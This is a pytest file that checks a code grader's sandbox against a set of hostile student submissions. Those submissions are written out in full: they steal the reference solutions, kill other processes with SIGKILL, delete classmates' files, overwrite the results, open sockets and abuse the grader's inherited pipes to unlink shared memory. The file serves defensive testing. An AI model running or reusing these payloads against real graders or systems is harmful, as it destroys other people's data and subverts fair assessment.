"""Hostile submissions against the batch grader's confinement (grader/run/confine.py).

Each hostile submission attacks at import and again inside the call, and is graded in one batch
beside two innocent classmates. The batch runs as the init of a PID namespace of its own
(tests/confinement_driver.py under ``unshare``), so an attack that got through could kill only
that namespace, never the test runner; the classmates' files live in a scratch folder. The
attackers know the grader's source and the machine: the paths of the repository, the
classmates' files and the results are written into their code.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
from multiprocessing import shared_memory
from pathlib import Path

import pytest

from grader.run import confine
from tests.conftest import ROOT, fingerprint, own_pid_namespace

EX01 = "ex01_cross_correlation.py"


def attacking_twice(attack: str, source: str) -> str:
    """A hostile ex01 file: ``source`` defines the function ``attack``, which runs at import and
    again inside the graded call."""
    return (f"{source}\n{attack}()\n\n\ndef cust_conv2d(X, K):\n    {attack}()\n"
            "    raise RuntimeError('done')\n\n\ntrue_conv2d = cust_conv2d\n")


STEALS_SOLUTIONS = '''import gc, os, sys
from pathlib import Path

def candidates():
    yield "@ROOT@/solutions/ex01_cross_correlation.py"  # known
    try:  # the judge's working directory, through /proc
        yield os.readlink(f"/proc/{os.getppid()}/cwd") + "/solutions/ex01_cross_correlation.py"
    except OSError:
        pass
    modules = list(sys.modules.values()) + [o for o in gc.get_objects() if type(o).__name__ == "module"]
    for module in modules:  # every loaded module's file, the grader's (kept alive in the worker) too
        file = getattr(module, "__file__", None)
        if file:
            for parent in Path(file).resolve().parents:
                yield str(parent / "solutions" / "ex01_cross_correlation.py")

def steal():
    for path in candidates():
        try:
            code = open(path).read()
        except OSError:
            continue
        namespace = {}
        exec(code, namespace)
        return namespace
    return None

STOLEN = steal()

def cust_conv2d(X, K):
    return (STOLEN or steal())["cust_conv2d"](X, K)

def true_conv2d(X, K):
    return (STOLEN or steal())["true_conv2d"](X, K)
'''

KILLS_ANCESTORS = attacking_twice('strike', '''import os, signal

def strike():
    for pid in [os.getppid(), *range(1, 4096)]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
''')

KILLS_EVERYONE = '''import os, signal

try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass

def cust_conv2d(X, K):
    os.kill(-1, signal.SIGKILL)
    raise RuntimeError("still here")

true_conv2d = cust_conv2d
'''

DELETES_CLASSMATES = attacking_twice('destroy', '''import os

TARGETS = @CLASSMATE_FILES@

def destroy():
    for path in TARGETS:
        for attack in (os.unlink, lambda p: os.truncate(p, 0), lambda p: os.rename(p, p + ".gone"),
                       lambda p: open(p, "w").close(), lambda p: os.chmod(p, 0)):
            try:
                attack(path)
            except OSError:
                pass
''')

REPLACES_RESULTS = attacking_twice('replace', '''import os

RESULTS = ["@OUT@/results.json", "@OUT@/results.csv"]

def replace():
    for path in RESULTS:
        for attack in (lambda p: os.rename(p, p + ".old"), os.unlink, lambda p: os.symlink("/dev/null", p)):
            try:
                attack(path)
            except OSError:
                pass
    try:
        os.symlink("/dev/null", "@OUT@/results.json")
    except OSError:
        pass
''')

OPENS_SOCKETS = '''import os, socket, time

def connect():
    try:
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as out:
            out.sendall(b"stolen")
    except OSError:
        pass

def listen():
    if os.fork() == 0:
        try:
            os.setsid()
            server = socket.socket()
            server.bind(("127.0.0.1", @PORT@ + 1))
            server.listen()
            time.sleep(60)
        finally:
            os._exit(0)

connect()
listen()

def cust_conv2d(X, K):
    connect()
    raise RuntimeError("done")

true_conv2d = cust_conv2d
'''

LINGERS = attacking_twice('linger', '''import os, time

def linger():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:  # double fork: the orphan is nobody's child
            time.sleep(60)
        os._exit(0)
''')

HANGS_AFTER_LINGERING = '''import os, time

def cust_conv2d(X, K):
    if os.fork() == 0:
        os.setsid()
        time.sleep(60)
        os._exit(0)
    while True:  # the judge kills the sandbox when the call's time is up
        pass

true_conv2d = cust_conv2d
'''

ABUSES_GRADER_PIPES = attacking_twice('attack', '''import os

def attack():
    # every inherited descriptor: the forkserver's liveness pipe, multiprocessing's resource tracker
    for fd in range(3, 256):
        try:
            os.write(fd, b"REGISTER:/@VICTIM@:shared_memory\\n" * 4)
        except OSError:
            pass
''')

HOSTILE = {"abuses_grader_pipes": ABUSES_GRADER_PIPES, "steals_solutions": STEALS_SOLUTIONS, "kills_ancestors": KILLS_ANCESTORS, "kills_everyone": KILLS_EVERYONE,
           "deletes_classmates": DELETES_CLASSMATES, "replaces_results": REPLACES_RESULTS,
           "opens_sockets": OPENS_SOCKETS, "lingers": LINGERS,
           "hangs_after_lingering": HANGS_AFTER_LINGERING}

INNOCENT = {"ada": ROOT / "examples" / "class" / "ada_complete" / EX01,
            "chen": ROOT / "examples" / "class" / "chen_flipped_kernel" / EX01}

pytestmark = [pytest.mark.slow]


def confined_pid_namespace() -> list[str]:
    """:func:`tests.conftest.own_pid_namespace`, where the kernel gives the whole confinement."""
    prefix = own_pid_namespace()
    missing = confine.probe().missing
    if missing:
        pytest.skip(f"the kernel lacks part of the confinement: {'; '.join(missing)}")
    return prefix


def free_port() -> int:
    """A port with the next two free too (for the attackers' listeners)."""
    while True:
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        if port < 65000 and all(_free(p) for p in (port + 1, port + 2)):
            return port


def _free(port: int) -> bool:
    with socket.socket() as probe:
        return probe.connect_ex(("127.0.0.1", port)) != 0


def checksums(*folders: Path) -> dict[str, object]:
    """Every file (its :func:`tests.conftest.fingerprint`) and link below the folders."""
    sums: dict[str, object] = {}
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_symlink():
                sums[str(path)] = "link -> " + os.readlink(path)
            elif path.is_file():
                sums[str(path)] = fingerprint(path)
    return sums


def repository_checksums() -> dict[str, str]:
    tracked = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True).stdout.split(b"\0")
    return {name.decode(): hashlib.sha256((ROOT / name.decode()).read_bytes()).hexdigest()
            for name in tracked if name and (ROOT / name.decode()).is_file()}


def graded(prefix: list[str], class_dir: Path, out: Path, port: int) -> tuple[dict, dict]:
    """(the driver's report, the results document) of grading ``class_dir`` in its own PID namespace."""
    out.mkdir(exist_ok=True)
    done = subprocess.run([*prefix, sys.executable, str(ROOT / "tests" / "confinement_driver.py"), str(class_dir),
                           str(out), str(port)], capture_output=True, text=True, cwd=ROOT, timeout=900)
    assert done.returncode == 0, done.stderr[-3000:]
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert report["returncode"] == 0, report
    return report, json.loads((out / "results.json").read_text())


def write_class(folder: Path, submissions: dict[str, str]) -> None:
    for name, source in submissions.items():
        (folder / name).mkdir(parents=True)
        (folder / name / EX01).write_text(source)


def test_hostile_submissions_gain_nothing_and_harm_no_one(tmp_path: Path) -> None:
    prefix = confined_pid_namespace()
    port = free_port()
    innocents = {name: path.read_text() for name, path in INNOCENT.items()}

    alone = tmp_path / "alone"
    write_class(alone, innocents)
    _, baseline = graded(prefix, alone, tmp_path / "alone_out", port)

    hostile_class, out = tmp_path / "class", tmp_path / "out"
    out.mkdir()
    (out / "results.json").write_text("{}")  # an earlier run's results, for the attacker to replace
    classmate_files = [str(hostile_class / name / EX01) for name in innocents]
    victim = shared_memory.SharedMemory(create=True, size=16)  # another program's, for the tracker to unlink
    fill = {"@ROOT@": str(ROOT), "@CLASSMATE_FILES@": repr(classmate_files), "@OUT@": str(out), "@PORT@": str(port),
            "@VICTIM@": victim.name}
    sources = {}
    for name, source in HOSTILE.items():
        for key, value in fill.items():
            source = source.replace(key, value)
        sources[name] = source
    write_class(hostile_class, {**innocents, **sources})
    before = checksums(hostile_class), repository_checksums()

    try:
        report, results = graded(prefix, hostile_class, out, port)
        assert Path("/dev/shm", victim.name).exists(), "the resource tracker was made to unlink a shared-memory object"
    finally:
        victim.close()
        victim.unlink()

    records = {r["name"]: r for r in results["submissions"]}
    assert set(records) == set(innocents) | set(HOSTILE), "every submission is graded"
    for name in HOSTILE:
        assert records[name]["exercises"][EX01[:-3]]["score"] == 0, (name, records[name])
    for record in baseline["submissions"]:
        assert records[record["name"]] == record, "a classmate's grade changed"
    assert (checksums(hostile_class), repository_checksums()) == before, "a file changed"
    for name in ("results.json", "results.csv"):
        assert (out / name).is_file() and not (out / name).is_symlink(), name
    assert report["alive"] == [], "processes outlived the batch"
    assert report["accepted"] == [], "a submission connected to a socket outside its sandbox"
    assert report["listening"] == [], "a submission listens on a port"
    assert results["confinement"] == confine.probe().record()
    assert set(results["confinement"]) == {"filesystem", "network", "signals", "processes"}
